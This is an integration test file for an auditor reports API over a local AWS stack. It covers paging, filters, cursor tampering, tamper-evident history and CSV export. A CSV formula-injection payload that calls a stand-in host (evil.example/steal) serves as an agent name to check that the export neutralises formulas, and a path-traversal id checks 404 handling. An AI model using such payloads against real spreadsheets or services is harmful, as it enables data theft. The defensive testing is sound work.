import { type DynamoDBClient, UpdateItemCommand } from '@aws-sdk/client-dynamodb';
import { marshall } from '@aws-sdk/util-dynamodb';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { DynamoDbReports } from '../../lambdas/adapters/dynamodb-reports.js';
import { keys } from '../../lambdas/adapters/dynamodb-table.js';
import { REQUEST_STATUSES } from '../../lambdas/core/model.js';
import { listEvidence, parseListQuery } from '../../lambdas/core/reports.js';
import { sanitizeSourceIdentity } from '../../lambdas/core/session-policy.js';
import { createLocalDynamoDbClient } from '../../lib/local/dynamodb-local.js';
import { TestStack } from '../support/local-stack.js';
import { CloudTrailTap, deployedFunction, feedLinker, pastLifecycle } from './stack-support.js';
import { assumeRoleRecord, callRecord, TABLE_ARN, TestClock } from './support.js';

/**
 * The reports API as deployed: the reports and list functions' bundles behind the local API Gateway,
 * with their roles, environment and history key, over requests made through the request lifecycle
 * on dated days (a moved clock: the range of a report is dates) and activity fed through the deployed
 * linker. Which DynamoDB calls a function made is read from the stack's CloudTrail, as on AWS.
 */

const NOW = '2025-03-06T12:00:00.000Z';
const INJECTION = '=HYPERLINK("http://evil.example/steal","Click")';

let stack: TestStack;
let tap: CloudTrailTap;
let auditor: string;
let issuer: string;
/** The reports and list functions' roles: their calls are theirs in CloudTrail. */
let reportsRole: string;
let listRole: string;
/** Where CloudTrail stood when the test started. */
let mark = 0;
/** DynamoDB calls the reports function made in this test (CloudTrail `eventName`). */
const commands = () => tap.dynamoCallsBy(reportsRole, mark).map((c) => c.operation);
let db: DynamoDBClient;

/** Ids of the requests made in beforeAll, by what they are. */
const made: Record<string, string> = {};

beforeAll(async () => {
  stack = await TestStack.start();
  tap = new CloudTrailTap(stack);
  issuer = stack.stack.issuer.issuer;
  auditor = await stack.token('carol-auditor', ['auditors']);
  reportsRole = deployedFunction(stack, 'ReportsFunction').roleArn;
  listRole = deployedFunction(stack, 'ListRequestsFunction').roleArn;
  db = createLocalDynamoDbClient(stack.stack.endpoints.dynamodb);
  await seed();
}, 120_000);

afterAll(async () => {
  db?.destroy();
  await stack?.stop();
});

beforeEach(() => {
  mark = tap.seen.length;
});

/**
 * Requests over four days, made through the request lifecycle under the stack's issuer, their
 * sessions' activity linked by the deployed linker.
 */
async function seed(): Promise<void> {
  const clock = new TestClock(Date.parse(NOW));
  const life = pastLifecycle(stack, clock);
  const mintingRoleArn = deployedFunction(stack, 'ClaimCredentialsFunction').roleArn;
  const ask = async (at: string, agent: string, resource: string, actions: string[]) => {
    clock.set(at);
    const { request } = await life.requests.create(
      life.agent(agent),
      JSON.stringify({ resource, actions, reason: 'Nightly maintenance (OPS-1)', durationSeconds: 900 }),
    );
    return request.id;
  };
  const decide = async (id: string, afterSeconds: number, decision: 'approve' | 'deny') => {
    clock.advance(afterSeconds);
    await life.decisions.decide({ requestId: id, approver: 'alice@example.com', decision, channel: 'slack' });
  };
  const claimAndCall = async (
    id: string,
    agent: string,
    calls: Array<{ eventName: string; errorCode?: string; tableName: string }>,
  ) => {
    clock.advance(30);
    const credentials = await life.claims.claim(life.agent(agent), id);
    const sourceIdentity = sanitizeSourceIdentity(agent);
    const records = [
      assumeRoleRecord({
        requestId: id,
        mintedAccessKeyId: credentials.AccessKeyId,
        sourceIdentity,
        eventTime: clock.now().toISOString(),
        mintingRoleArn,
      }),
    ];
    for (const call of calls) {
      clock.advance(10);
      records.push(
        callRecord({
          requestId: id,
          accessKeyId: credentials.AccessKeyId,
          sourceIdentity,
          eventTime: clock.now().toISOString(),
          ...call,
        }),
      );
    }
    expect(await feedLinker(stack, { Records: records })).toMatchObject({ stored: records.length });
  };

  try {
    made.usedGrant = await ask('2025-03-01T09:00:00.000Z', 'deploy-bot', TABLE_ARN('orders'), [
      'dynamodb:PutItem',
    ]);
    await decide(made.usedGrant, 30, 'approve');
    await claimAndCall(made.usedGrant, 'deploy-bot', [{ eventName: 'PutItem', tableName: 'orders' }]);

    made.policyDenied = await ask('2025-03-01T10:00:00.000Z', 'deploy-bot', TABLE_ARN('orders'), [
      'dynamodb:DeleteTable',
    ]);

    made.unusedGrant = await ask('2025-03-02T09:00:00.000Z', 'etl-bot', TABLE_ARN('orders'), [
      'dynamodb:PutItem',
    ]);
    await decide(made.unusedGrant, 30, 'approve');

    made.rubberStamp = await ask('2025-03-02T11:00:00.000Z', 'etl-bot', TABLE_ARN('flagged-ledger'), [
      'dynamodb:PutItem',
    ]);
    await decide(made.rubberStamp, 1, 'approve');
    await claimAndCall(made.rubberStamp, 'etl-bot', [
      { eventName: 'PutItem', tableName: 'flagged-ledger' },
      { eventName: 'DeleteTable', tableName: 'flagged-ledger', errorCode: 'AccessDenied' },
    ]);

    made.humanDenied = await ask('2025-03-03T09:00:00.000Z', 'deploy-bot', TABLE_ARN('orders'), [
      'dynamodb:PutItem',
    ]);
    await decide(made.humanDenied, 40, 'deny');

    made.policyAllowed = await ask('2025-03-03T10:00:00.000Z', INJECTION, TABLE_ARN('orders'), [
      'dynamodb:GetItem',
    ]);

    made.timedOut = await ask('2025-03-04T09:00:00.000Z', 'etl-bot', TABLE_ARN('orders'), [
      'dynamodb:PutItem',
    ]);

    // Outside the main range: the requests the tamper tests edit by hand.
    made.toEditHistory = await ask('2025-02-20T09:00:00.000Z', 'tamper-bot', TABLE_ARN('orders'), [
      'dynamodb:PutItem',
    ]);
    await decide(made.toEditHistory, 30, 'approve');
    made.toEditStatus = await ask('2025-02-20T10:00:00.000Z', 'tamper-bot', TABLE_ARN('orders'), [
      'dynamodb:DeleteTable',
    ]);
    made.untouched = await ask('2025-02-20T11:00:00.000Z', 'tamper-bot', TABLE_ARN('orders'), [
      'dynamodb:DeleteTable',
    ]);
  } finally {
    life.close();
  }
}

const RANGE = { from: '2025-03-01', to: '2025-03-06' };

/** A GET through the local API Gateway, as the auditor unless `token` says otherwise (null: none). */
async function get(
  path: string,
  options: { query?: Record<string, string>; token?: string | null; accept?: string } = {},
): Promise<{ status: number; body: Record<string, unknown>; text: string; headers: Record<string, string> }> {
  const token = options.token === undefined ? auditor : options.token;
  const query = options.query ? `?${new URLSearchParams(options.query)}` : '';
  const answer = await stack.call('GET', `${path}${query}`, {
    ...(token ? { token } : {}),
    ...(options.accept ? { headers: { accept: options.accept } } : {}),
  });
  const text = typeof answer.body === 'string' ? answer.body : JSON.stringify(answer.body);
  const body = typeof answer.body === 'string' ? {} : answer.body;
  return { status: answer.status, body, text, headers: Object.fromEntries(answer.headers.entries()) };
}

type Summary = {
  request: { id: string; status: string };
  findings: Array<{ type: string }>;
  complete: boolean;
  integrity: { valid: boolean };
};
const items = (body: Record<string, unknown>) => body.items as Summary[];

async function listAll(query: Record<string, string>): Promise<{ ids: string[]; pages: number }> {
  const ids: string[] = [];
  let cursor: string | undefined;
  let pages = 0;
  do {
    const answer = await get('/v1/reports/requests', { query: { ...query, ...(cursor ? { cursor } : {}) } });
    expect(answer.status).toBe(200);
    ids.push(...items(answer.body).map((i) => i.request.id));
    cursor = (answer.body.nextCursor as string | null) ?? undefined;
    pages += 1;
    expect(pages).toBeLessThan(20);
  } while (cursor);
  return { ids, pages };
}

describe('reports: who may read them', () => {
  it('answers auditors, refuses agents and approvers with 403 and the unauthenticated with 401', async () => {
    const agent = await get('/v1/reports/requests', { token: await stack.agentToken('deploy-bot') });
    const approver = await get('/v1/reports/access-review', {
      token: await stack.token('alice@example.com', ['approvers']),
    });
    const nobody = await get('/v1/reports/requests', { token: null });
    const auditor = await get('/v1/reports/requests', { query: RANGE });

    expect(agent.status).toBe(403);
    expect((agent.body.error as { code: string }).code).toBe('Forbidden');
    expect(approver.status).toBe(403);
    expect(nobody.status).toBe(401);
    expect(auditor.status).toBe(200);
  });
});

describe('GET /v1/reports/requests', () => {
  const newestFirst = () => [
    made.timedOut,
    made.policyAllowed,
    made.humanDenied,
    made.rubberStamp,
    made.unusedGrant,
    made.policyDenied,
    made.usedGrant,
  ];

  it('pages through the byDay partitions of the range, newest first, each request once', async () => {
    const { ids, pages } = await listAll({ ...RANGE, limit: '2' });

    expect(ids).toEqual(newestFirst());
    expect(pages).toBe(4);
  });

  it('filters by agent through the byAgent index, with its own pages', async () => {
    const { ids } = await listAll({ ...RANGE, agent: 'etl-bot', limit: '1' });

    expect(ids).toEqual([made.timedOut, made.rubberStamp, made.unusedGrant]);
  });

  it('filters by effective status: an approved grant past notAfter is EXPIRED, a lost PENDING is TIMED_OUT', async () => {
    const expired = await listAll({ ...RANGE, status: 'EXPIRED', limit: '3' });
    const timedOut = await listAll({ ...RANGE, status: 'TIMED_OUT' });
    const denied = await listAll({ ...RANGE, status: 'DENIED', agent: 'deploy-bot' });

    expect(expired.ids).toEqual([made.policyAllowed, made.rubberStamp, made.unusedGrant, made.usedGrant]);
    expect(timedOut.ids).toEqual([made.timedOut]);
    expect(denied.ids).toEqual([made.humanDenied, made.policyDenied]);
  });

  it('summarises each request with its findings and completeness, without an extra read per request', async () => {
    const answer = await get('/v1/reports/requests', { query: { ...RANGE, limit: '100' } });

    const byId = Object.fromEntries(items(answer.body).map((i) => [i.request.id, i]));
    const types = (id: string) => byId[id]!.findings.map((f) => f.type).sort();
    expect(types(made.unusedGrant!)).toEqual(['UNUSED_GRANT']);
    expect(types(made.rubberStamp!)).toEqual(['ACCESS_DENIED', 'RUBBER_STAMP']);
    expect(types(made.usedGrant!)).toEqual([]);
    expect(byId[made.usedGrant!]!.complete).toBe(true);
    expect(byId[made.timedOut!]!.complete).toBe(false);
    expect(Object.values(byId).every((i) => i.integrity.valid)).toBe(true);
    // One Query per day partition of the range, nothing per item.
    expect(commands().filter((c) => c !== 'Query')).toEqual([]);
    expect(commands().length).toBeGreaterThan(0);
    expect(commands().length).toBeLessThanOrEqual(6);
  });

  it.each([
    [{ limit: '0' }, 'limit'],
    [{ limit: '101' }, 'limit'],
    [{ limit: 'ten' }, 'limit'],
    [{ status: 'MAYBE' }, 'status'],
    [{ from: 'yesterday' }, 'from'],
    [{ from: '2025-03-06', to: '2025-03-01' }, 'from'],
    [{ from: '2024-11-01', to: '2025-03-01' }, 'from'],
    [{ stauts: 'DENIED' }, 'stauts'],
  ])('refuses %j with a 400 naming the parameter', async (query, field) => {
    const answer = await get('/v1/reports/requests', { query: query as Record<string, string> });

    expect(answer.status).toBe(400);
    expect(answer.body.error).toMatchObject({ code: 'ValidationError', details: { field } });
    expect(commands()).toEqual([]);
  });

  it('refuses a tampered, foreign or out-of-range cursor with a 400, before touching the table', async () => {
    const first = await get('/v1/reports/requests', { query: { ...RANGE, limit: '2' } });
    const cursor = String(first.body.nextCursor);
    const decoded = JSON.parse(Buffer.from(cursor, 'base64url').toString('utf8'));
    const reencode = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
    mark = tap.seen.length;

    const tampered = [
      `${cursor.slice(0, -2)}!!`,
      cursor.split('').reverse().join(''),
      reencode({ ...decoded, d: '2025-01-01' }),
      reencode({ ...decoded, k: `2020-01-01T00:00:00.000Z#${made.usedGrant}` }),
      reencode({ ...decoded, k: 'x'.repeat(40) }),
      reencode({ ...decoded, extra: true }),
      reencode([1, 2, 3]),
      'A'.repeat(600),
    ];
    const foreign = await get('/v1/reports/requests', {
      query: { ...RANGE, limit: '2', status: 'DENIED', cursor },
    });
    const answers = await Promise.all(
      tampered.map((c) => get('/v1/reports/requests', { query: { ...RANGE, cursor: c } })),
    );

    expect(foreign.status).toBe(400);
    expect(answers.map((a) => a.status)).toEqual(tampered.map(() => 400));
    expect(
      answers.every((a) => (a.body.error as { details: { field: string } }).details.field === 'cursor'),
    ).toBe(true);
    expect(commands()).toEqual([]);
  });
});

describe('GET /v1/reports/requests/{id}', () => {
  it('answers the evidence record through its API Gateway route', async () => {
    const byResource = await get(`/v1/reports/requests/${made.rubberStamp}`);

    expect(byResource.status).toBe(200);
    const record = byResource.body as {
      request: { id: string; status: string };
      evidence: {
        activity: Array<{ eventName: string; errorCode?: string }>;
        sessions: unknown[];
        decision: { decisions: unknown[] };
      };
      findings: Array<{ type: string }>;
      complete: boolean;
      integrity: { valid: boolean };
    };
    expect(record.request).toMatchObject({ id: made.rubberStamp, status: 'EXPIRED' });
    expect(record.evidence.activity.map((e) => e.eventName)).toEqual([
      'AssumeRole',
      'PutItem',
      'DeleteTable',
    ]);
    expect(record.evidence.sessions).toHaveLength(1);
    expect(record.findings.map((f) => f.type).sort()).toEqual(['ACCESS_DENIED', 'RUBBER_STAMP']);
    expect(record.complete).toBe(true);
    expect(record.integrity).toEqual({ valid: true, keyed: true });
    // The task token stored in the same partition never reaches the reader.
    expect(byResource.text).not.toContain('TOKEN');
    // One Query on the request's partition.
    expect(commands()).toEqual(['Query']);
  });

  it('is 404 for an unknown or malformed id', async () => {
    const unknown = await get('/v1/reports/requests/req_AAAAAAAAAAAAAAAAAAAA');
    const malformed = await get('/v1/reports/requests/..%2F..%2Fetc');

    expect(unknown.status).toBe(404);
    expect(malformed.status).toBe(404);
  });
});

describe('tamper evidence', () => {
  const record = async (id: string) => {
    const answer = await get(`/v1/reports/requests/${id}`);
    return answer.body as {
      integrity: { valid: boolean; problem?: string };
      findings: Array<{ type: string }>;
    };
  };

  it('fails verification after a history entry is edited by hand in DynamoDB', async () => {
    const before = await record(made.toEditHistory!);
    await db.send(
      new UpdateItemCommand({
        TableName: stack.stack.tableName,
        Key: marshall(keys.request(made.toEditHistory!)),
        UpdateExpression: 'SET history[0].#event = :event',
        ExpressionAttributeNames: { '#event': 'event' },
        ExpressionAttributeValues: marshall({ ':event': 'created:DENIED' }),
      }),
    );

    const after = await record(made.toEditHistory!);

    expect(before.integrity).toEqual({ valid: true, keyed: true });
    expect(after.integrity.valid).toBe(false);
    expect(after.integrity.problem).toMatch(/entry 1 .* altered/);
    expect(after.findings.map((f) => f.type)).toContain('INTEGRITY_FAILURE');
  });

  it('fails verification after the request status is edited by hand, in the record and in the listing', async () => {
    await db.send(
      new UpdateItemCommand({
        TableName: stack.stack.tableName,
        Key: marshall(keys.request(made.toEditStatus!)),
        UpdateExpression: 'SET #status = :status',
        ExpressionAttributeNames: { '#status': 'status' },
        ExpressionAttributeValues: marshall({ ':status': 'APPROVED' }),
      }),
    );

    const after = await record(made.toEditStatus!);
    const listing = await get('/v1/reports/requests', { query: { from: '2025-02-20', to: '2025-02-21' } });

    expect(after.integrity.valid).toBe(false);
    expect(after.integrity.problem).toContain('differs from the state its history last recorded');
    const byId = Object.fromEntries(items(listing.body).map((i) => [i.request.id, i.integrity.valid]));
    expect(byId).toMatchObject({ [made.toEditStatus!]: false, [made.untouched!]: true });
  });
});

describe('GET /v1/reports/access-review', () => {
  const statuses = (counts: Record<string, number>) =>
    Object.fromEntries(REQUEST_STATUSES.map((s) => [s, counts[s] ?? 0]));

  it('counts per agent in JSON: a column per status, grants and denials by who decided', async () => {
    const answer = await get('/v1/reports/access-review', { query: RANGE });

    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({ from: '2025-03-01T00:00:00.000Z', to: '2025-03-07T00:00:00.000Z' });
    expect(answer.body.agents).toEqual([
      {
        agent: INJECTION,
        issuer,
        requests: 1,
        statuses: statuses({ EXPIRED: 1 }),
        approved: 1,
        approvedByHumans: 0,
        allowedByPolicy: 1,
        denied: 0,
        deniedByPolicy: 0,
        deniedByApprovers: 0,
        refused: 0,
        timedOut: 0,
        medianDecisionSeconds: null,
        rubberStamps: 0,
        unusedGrants: 1,
        approvers: [],
        granted: [{ resource: TABLE_ARN('orders'), actions: ['dynamodb:GetItem'] }],
        resourcesTouched: [],
        executions: 0,
      },
      {
        agent: 'deploy-bot',
        issuer,
        requests: 3,
        statuses: statuses({ EXPIRED: 1, DENIED: 2 }),
        approved: 1,
        approvedByHumans: 1,
        allowedByPolicy: 0,
        denied: 2,
        deniedByPolicy: 1,
        deniedByApprovers: 1,
        refused: 0,
        timedOut: 0,
        medianDecisionSeconds: 35,
        rubberStamps: 0,
        unusedGrants: 0,
        approvers: ['alice@example.com'],
        granted: [{ resource: TABLE_ARN('orders'), actions: ['dynamodb:PutItem'] }],
        resourcesTouched: [TABLE_ARN('orders')],
        executions: 0,
      },
      {
        agent: 'etl-bot',
        issuer,
        requests: 3,
        statuses: statuses({ EXPIRED: 2, TIMED_OUT: 1 }),
        approved: 2,
        approvedByHumans: 2,
        allowedByPolicy: 0,
        denied: 0,
        deniedByPolicy: 0,
        deniedByApprovers: 0,
        refused: 0,
        timedOut: 1,
        medianDecisionSeconds: 15.5,
        rubberStamps: 1,
        unusedGrants: 1,
        approvers: ['alice@example.com'],
        granted: [
          { resource: TABLE_ARN('flagged-ledger'), actions: ['dynamodb:PutItem'] },
          { resource: TABLE_ARN('orders'), actions: ['dynamodb:PutItem'] },
        ],
        resourcesTouched: [TABLE_ARN('flagged-ledger')],
        executions: 0,
      },
    ]);
  });

  it('has a per-approver view: decided, approvals, denials, median review, rubber stamps', async () => {
    const answer = await get('/v1/reports/access-review', { query: RANGE });

    expect(answer.body.approvers).toEqual([
      {
        approver: 'alice@example.com',
        decided: 4,
        approvals: 3,
        denials: 1,
        medianReviewSeconds: 30,
        rubberStamps: 1,
        agents: ['deploy-bot', 'etl-bot'],
      },
    ]);
  });

  it('filters by resource, an ARN or a pattern', async () => {
    const answer = await get('/v1/reports/access-review', {
      query: { ...RANGE, resource: TABLE_ARN('flagged-*') },
    });
    const agents = answer.body.agents as Array<{ agent: string; requests: number }>;
    expect(agents.map((a) => [a.agent, a.requests])).toEqual([['etl-bot', 1]]);
    expect(answer.body.resource).toBe(TABLE_ARN('flagged-*'));
  });

  it('reads a date to as the whole of that day', async () => {
    const through4th = await get('/v1/reports/access-review', {
      query: { from: '2025-03-04', to: '2025-03-04' },
    });
    expect(through4th.status).toBe(200);
    expect((through4th.body.agents as Array<{ agent: string }>).map((a) => a.agent)).toEqual(['etl-bot']);
  });

  it('answers CSV for Accept: text/csv with a header naming each column, a formula neutralised', async () => {
    const answer = await get('/v1/reports/access-review', { query: RANGE, accept: 'text/csv' });

    expect(answer.status).toBe(200);
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
    const lines = answer.text.trimEnd().split('\r\n');
    const header = JSON.parse(`[${lines[0]}]`) as string[];
    expect(header.slice(0, 3)).toEqual(['agent', 'issuer', 'requests']);
    expect(header).toEqual(
      expect.arrayContaining([
        ...REQUEST_STATUSES,
        'approvedByHumans',
        'allowedByPolicy',
        'deniedByApprovers',
        'deniedByPolicy',
        'refused',
        'approvers',
        'granted',
        'resourcesTouched',
      ]),
    );
    expect(lines).toHaveLength(4);
    // The cell starts with a quote mark, so a spreadsheet shows the text instead of evaluating it.
    expect(lines[1]!.startsWith(`"'=HYPERLINK(""http://evil.example/steal"",""Click"")",`)).toBe(true);
    const deployBot = JSON.parse(`[${lines[2]}]`) as Array<string | number>;
    const cell = (name: string) => deployBot[header.indexOf(name)];
    expect(cell('agent')).toBe('deploy-bot');
    // The status columns add up to the requests, and DENIED to its three causes.
    const byStatus = REQUEST_STATUSES.map((s) => Number(cell(s)));
    expect(byStatus.reduce((a, b) => a + b, 0)).toBe(cell('requests'));
    expect(cell('DENIED')).toBe(
      Number(cell('deniedByPolicy')) + Number(cell('deniedByApprovers')) + Number(cell('refused')),
    );
    expect(cell('granted')).toBe(`${TABLE_ARN('orders')} dynamodb:PutItem`);
    expect(answer.text).not.toMatch(/(^|,)=/m);

    const approvers = await get('/v1/reports/access-review', {
      query: { ...RANGE, view: 'approvers' },
      accept: 'text/csv',
    });
    expect(approvers.text.split('\r\n').slice(0, 2)).toEqual([
      '"approver","decided","approvals","denials","medianReviewSeconds","rubberStamps","agents"',
      '"alice@example.com",4,3,1,30,1,"deploy-bot etl-bot"',
    ]);
  });

  it('covers up to 366 days (a year, or a quarter, in one call), refuses more and unknown parameters', async () => {
    const year = await get('/v1/reports/access-review', { query: { from: '2024-03-05', to: '2025-03-05' } });
    const wide = await get('/v1/reports/access-review', { query: { from: '2024-03-04', to: '2025-03-05' } });
    const unknown = await get('/v1/reports/access-review', { query: { ...RANGE, agent: 'etl-bot' } });
    const badView = await get('/v1/reports/access-review', { query: { ...RANGE, view: 'resources' } });

    expect(year.status).toBe(200);
    expect(wide.status).toBe(400);
    expect(unknown.status).toBe(400);
    expect(badView.status).toBe(400);
  });
});

describe('status filters read the byStatus index', () => {
  it('the deployed reports query only the byStatus index for status= over every agent', async () => {
    for (const [status, limit] of [
      ['DENIED', '25'],
      ['DENIED', '1'],
      ['EXPIRED', '25'],
    ] as const) {
      mark = tap.seen.length;
      const { ids } = await listAll({ ...RANGE, status, limit });
      expect(ids.length).toBeGreaterThan(0);
      const calls = tap.dynamoCallsBy(reportsRole, mark);
      expect(calls.length, `${status} limit ${limit}`).toBeGreaterThan(0);
      expect(
        calls.every((c) => c.operation === 'Query' && c.indexName === 'byStatus'),
        `${status} limit ${limit}: ${JSON.stringify(calls)}`,
      ).toBe(true);
    }
    const denied = await listAll({ ...RANGE, status: 'DENIED', limit: '1' });
    expect(denied.ids).toEqual([made.humanDenied, made.policyDenied]);
  });

  it('reads at most 1.2 items per item returned (the reports’ reader on the stack’s table)', async () => {
    // CloudTrail does not say how many items a Query read: DynamoDB's ScannedCount does, so the
    // reader the reports function runs is measured on the same table, through the same listing.
    let itemsRead = 0;
    const counting = createLocalDynamoDbClient(stack.stack.endpoints.dynamodb);
    counting.middlewareStack.add(
      (next) => async (args) => {
        const out = await next(args);
        itemsRead += Number((out.output as { ScannedCount?: number }).ScannedCount ?? 0);
        return out;
      },
      { step: 'initialize', name: 'countItemsRead' },
    );
    const reader = new DynamoDbReports(counting, stack.stack.tableName);
    const now = new Date();
    try {
      for (const [status, limit] of [
        ['DENIED', '25'],
        ['DENIED', '1'],
        ['EXPIRED', '25'],
      ] as const) {
        itemsRead = 0;
        const ids: string[] = [];
        let cursor: string | undefined;
        do {
          const query = parseListQuery(
            { ...RANGE, status, limit, ...(cursor ? { cursor } : {}) },
            now,
            issuer,
          );
          const page = await listEvidence(reader, query, now);
          ids.push(...page.items.map((i) => i.request.id));
          cursor = page.nextCursor ?? undefined;
        } while (cursor);
        expect(ids.length).toBeGreaterThan(0);
        expect(itemsRead / ids.length, `${status} limit ${limit}`).toBeLessThanOrEqual(1.2);
      }
    } finally {
      counting.destroy();
    }
  });
});

describe('GET /v1/requests reads with Query only', () => {
  const listAs = async (sub: string, groups: string[], query: Record<string, string>) => {
    const answer = await stack.call<{ items: Array<{ id: string }>; nextCursor: string | null }>(
      'GET',
      `/v1/requests?${new URLSearchParams(query)}`,
      { token: await stack.token(sub, groups) },
    );
    expect(answer.status).toBe(200);
    return answer.body;
  };

  it('lists for auditors, approvers and agents without a Scan', async () => {
    const all = await listAs('carol-auditor', ['auditors'], { limit: '3' });
    expect(all.items).toHaveLength(3);
    await listAs('carol-auditor', ['auditors'], { limit: '3', cursor: String(all.nextCursor) });
    await listAs('bob@example.com', ['approvers'], { status: 'PENDING' });
    const own = await listAs('etl-bot', ['agents'], { status: 'TIMED_OUT' });
    expect(own.items.map((i) => i.id)).toEqual([made.timedOut]);

    const calls = tap.dynamoCallsBy(listRole, mark).map((c) => c.operation);
    expect(calls.length).toBeGreaterThan(0);
    expect(new Set(calls)).toEqual(new Set(['Query']));
  });
});

describe('reports read with Query and GetItem only', () => {
  it('issues no Scan on any route', async () => {
    await listAll({ ...RANGE, limit: '2' });
    await listAll({ ...RANGE, agent: 'deploy-bot', status: 'DENIED' });
    await get(`/v1/reports/requests/${made.usedGrant}`);
    await get('/v1/reports/access-review', { query: RANGE });
    await get('/v1/reports/access-review', { query: RANGE, accept: 'text/csv' });

    expect(commands().length).toBeGreaterThan(0);
    expect(new Set(commands())).toEqual(new Set(['Query']));
  });
});
